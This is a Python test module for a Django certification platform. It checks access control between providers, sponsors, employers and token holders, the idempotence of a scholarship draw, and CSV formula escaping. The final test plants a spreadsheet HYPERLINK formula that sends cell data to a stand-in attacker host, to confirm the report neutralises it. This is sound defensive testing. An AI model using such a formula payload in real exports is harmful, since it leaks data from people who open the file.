"""Each outsider sees and reports only what is theirs, whatever ids they send: another approved
provider reporting the world's course (its page, its session and its own API key), a provider
reporting someone who never named its course, a sponsor of another organization at SSD's fund
and reports, a suspended provider's member at the reports workspace, an employer at the
certificates holders share, and API tokens of a closed account, revoked, of someone else, or
made with a staff role since ended. The sponsor pressing the draw again that already ran, and
a name written as a spreadsheet formula in the fund's CSV report.

The world is `world.py`'s, built once for the module; each test reads its own copy and is
rolled back.
"""

from __future__ import annotations

import json

from django.test import Client
from django.urls import reverse

from certify.accounts.models import PersonalAccessToken, Role, User
from certify.courses.models import CourseCompletion, UnmatchedCompletion
from tests.factories import (
    FundFactory,
    ProviderFactory,
    SponsorMemberFactory,
    UserFactory,
)
from tests.security.outsiders import (  # noqa: F401  (the fixtures world_fixture, world_in_module)
    PASSWORD,
    signed_in,
    world_fixture,
    world_in_module,
)
from tests.security.test_other_attackers import _today


def _browser(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _report_url(provider_id: int, course_id: int) -> str:
    return f"/api/v1/providers/{provider_id}/courses/{course_id}/completions"


def _rows(*rows: dict) -> str:
    return json.dumps({"completions": list(rows)})


def _other_provider() -> tuple[User, object, str]:
    """An approved provider of its own, one person acting for it, and that person's API key."""
    from certify.courses import services as courses

    person = UserFactory(full_name="Ola Otherside", roles=[Role.PROVIDER])
    theirs = ProviderFactory(name="Otherside Academy", staff=[person])
    _, raw = courses.api_key_create(provider=theirs, actor=person, name="LMS")
    return person, theirs, raw


def test_a_provider_cannot_report_a_completion_of_another_providers_course(world):
    person, theirs, raw = _other_provider()
    candidate = world.users["candidate"]
    recorded = (CourseCompletion.objects.count(), UnmatchedCompletion.objects.count())
    row = {
        "email": candidate.email,
        "full_name": candidate.full_name,
        "completed_on": _today(world),
    }
    client = _browser(person)
    page = client.post(
        reverse("courses:completion_report", kwargs={"pid": theirs.pk}),
        {**row, "course": world.course.pk},
    )
    assert page.status_code == 400  # not one of their courses: the form does not offer it
    assert "course" in page.context["form"].errors
    # their own provider's address with the world's course; the world's provider's address
    through_theirs = client.post(
        _report_url(theirs.pk, world.course.pk), _rows(row), "application/json"
    )
    through_ours = client.post(
        _report_url(world.provider.pk, world.course.pk), _rows(row), "application/json"
    )
    keyed = Client(HTTP_AUTHORIZATION=f"Bearer {raw}")
    key_theirs = keyed.post(_report_url(theirs.pk, world.course.pk), _rows(row), "application/json")
    key_ours = keyed.post(
        _report_url(world.provider.pk, world.course.pk), _rows(row), "application/json"
    )
    # another provider's course and another provider answer as unknown ones: nothing confirmed
    assert [r.status_code for r in (through_theirs, through_ours, key_theirs, key_ours)] == [
        404,
        404,
        404,
        404,
    ]
    assert (CourseCompletion.objects.count(), UnmatchedCompletion.objects.count()) == recorded


def test_a_provider_reporting_someone_who_never_named_its_course_learns_nothing(world):
    """Olu is a candidate of the program who never named the provider's course nor accepted its
    invitation: his row is "unmatched" in the same words as an address nobody has, and nothing
    of his is recorded."""
    other = world.users["other_candidate"]
    client = _browser(world.users["provider"])
    on = _today(world)
    answer = client.post(
        _report_url(world.provider.pk, world.course.pk),
        _rows(
            {"email": other.email, "full_name": other.full_name, "completed_on": on},
            {"email": "no.one@example.org", "full_name": "No One", "completed_on": on},
        ),
        "application/json",
    )
    assert answer.status_code == 200, answer.text
    rows = answer.json()["rows"]
    assert [r["result"] for r in rows] == ["unmatched", "unmatched"]
    assert rows[0]["message"] == rows[1]["message"]
    assert other.full_name not in answer.text
    assert not CourseCompletion.objects.filter(candidate=other).exists()


def test_a_sponsor_of_another_organization_reaches_none_of_ssds_fund(world):
    admin = SponsorMemberFactory(user__full_name="Ada Another").user
    mine = FundFactory(sponsor=admin.sponsor_memberships.get().sponsor, name="Harbor Fund")
    client = _browser(admin)
    ssd = world.fund
    refused = [
        client.get(reverse("scholarships:fund", kwargs={"slug": ssd.slug})),
        client.get(reverse("scholarships:report", kwargs={"slug": ssd.slug})),
        client.get(f"/api/v1/sponsor/scholarships/funds/{ssd.slug}/applications"),
        client.post(
            reverse("scholarships:decide", kwargs={"pk": world.scholarship_application.pk}),
            {"decision": "decline", "reason": "Not ours."},
        ),
    ]
    assert [r.status_code in (403, 404) for r in refused] == [True] * 4, [
        r.status_code for r in refused
    ]
    export = client.get(reverse("reports:sponsor_export", kwargs={"fmt": "csv"}))
    assert export.status_code == 200
    text = export.content.decode()
    assert mine.name in text
    assert ssd.name not in text
    assert "Dana Okafor" not in text


def test_a_suspended_providers_member_exports_only_their_own_courses(world):
    """A provider's reports read the courses of the providers the person acts for: a suspended
    one's member gets theirs (none approved), never Northside's."""
    client = signed_in(world, "suspended_provider")
    for fmt in ("csv", "xlsx"):
        export = client.get(reverse("reports:provider_export", kwargs={"fmt": fmt}))
        assert export.status_code == 200
        if fmt == "csv":
            text = export.content.decode()
            assert world.course.title not in text
            assert world.provider.name not in text
    page = client.get(reverse("reports:provider"))
    assert page.status_code == 200
    assert world.course.title not in page.text


def test_an_employer_sees_what_is_shared_with_their_address_and_only_while_it_is(world):
    from certify.webhooks.services import share_withdraw

    number = world.certificate.number
    employer = UserFactory(full_name="Eve Employer", email="HR@Employer.Example")
    elsewhere = UserFactory(full_name="Ivo Elsewhere", email="hr@elsewhere.example")
    page = reverse("webhooks:shared_with_you")  # the employer's page of shares
    assert number in _browser(employer).get(page).text  # the address, however it is written
    assert number not in _browser(elsewhere).get(page).text
    # the employer's own shares (they made none) do not list the holder's
    assert _browser(employer).get("/api/v1/webhooks/shares").json() == []
    share_withdraw(share=world.webhook_share, actor=world.users["candidate"])
    assert number not in _browser(employer).get(page).text


def _bearer(raw: str) -> Client:
    return Client(HTTP_AUTHORIZATION=f"Bearer {raw}")


def test_a_token_of_a_closed_account_or_revoked_or_someone_elses_works_for_nobody(world):
    from certify.accounts.privacy import account_close
    from certify.accounts.tokens import token_create, token_revoke

    mine = "/api/v1/applications/mine"
    person = UserFactory(full_name="Tess Token", roles=[Role.CANDIDATE])
    person.set_password(PASSWORD)
    person.save(update_fields=["password"])
    kept = token_create(user=person, name="Script", scopes=["applications"])
    revoked = token_create(user=person, name="Old", scopes=["applications"])
    assert _bearer(kept.secret).get(mine).status_code == 200
    token_revoke(token=revoked.token, actor=person)
    refused = _bearer(revoked.secret).get(mine)
    assert (refused.status_code, refused.json()["detail"]) == (401, "This token was revoked.")
    # someone else's token id: an unknown one, and it goes on working for its owner
    other = _browser(world.users["other_candidate"])
    assert other.post(f"/api/v1/account/tokens/{kept.token.pk}/revoke").status_code == 404
    assert other.post(
        reverse("accounts:token_revoke", kwargs={"pk": kept.token.pk})
    ).status_code in (
        403,
        404,
    )
    assert _bearer(kept.secret).get(mine).status_code == 200
    account_close(user=User.objects.get(pk=person.pk), password=PASSWORD)
    # closing the account erased its tokens: the old secret is one nobody made
    closed = _bearer(kept.secret).get(mine)
    assert (closed.status_code, closed.json()["detail"]) == (401, "This token is not valid.")
    assert not PersonalAccessToken.objects.filter(user_id=person.pk).exists()


def test_a_token_made_with_a_staff_role_stops_when_the_role_ends(world):
    from allauth.mfa.models import Authenticator

    from certify.accounts.services import role_revoke
    from certify.accounts.tokens import token_create

    person = UserFactory(full_name="Fran Former", roles=[Role.PROGRAM_STAFF])
    Authenticator.objects.create(user=person, type=Authenticator.Type.TOTP, data={})
    made = token_create(user=User.objects.get(pk=person.pk), name="Queue", scopes=["staff"])
    queue = "/api/v1/staff/applications"
    assert _bearer(made.secret).get(queue).status_code == 200
    role_revoke(user=person, role=Role.PROGRAM_STAFF, actor=world.users["staff"], reason="Left.")
    ended = _bearer(made.secret).get(queue)
    assert ended.status_code == 403
    assert "no longer hold" in ended.json()["detail"]


def test_the_draw_pressed_again_draws_nobody_twice(world):
    """SSD's continuing-education draw ran (one place, Olu drawn): its sponsor pressing the form
    again, or sending it through the API, awards nobody else and makes no second draw."""
    from certify.scholarships.models import Award, Draw

    fund = world.draw.fund
    before = (Draw.objects.filter(fund=fund).count(), Award.objects.filter(fund=fund).count())
    client = _browser(world.users["sponsor"])
    page = client.post(
        reverse("scholarships:draw_create", kwargs={"slug": fund.slug}), {"places": "1"}
    )
    api = client.post(
        f"/api/v1/sponsor/scholarships/funds/{fund.slug}/draws", {"places": 1}, "application/json"
    )
    assert (page.status_code, api.status_code) == (400, 400), (page.status_code, api.text)
    after = (Draw.objects.filter(fund=fund).count(), Award.objects.filter(fund=fund).count())
    assert after == before


def test_a_name_written_as_a_formula_stays_text_in_the_funds_csv_report(world):
    candidate = world.users["candidate"]
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
    User.objects.filter(pk=candidate.pk).update(full_name=formula, preferred_name="")
    report = _browser(world.users["sponsor"]).get(
        reverse("scholarships:report", kwargs={"slug": world.fund.slug}) + "?format=csv"
    )
    assert report.status_code == 200
    import csv
    import io

    cells = [cell for row in csv.reader(io.StringIO(report.content.decode())) for cell in row]
    assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
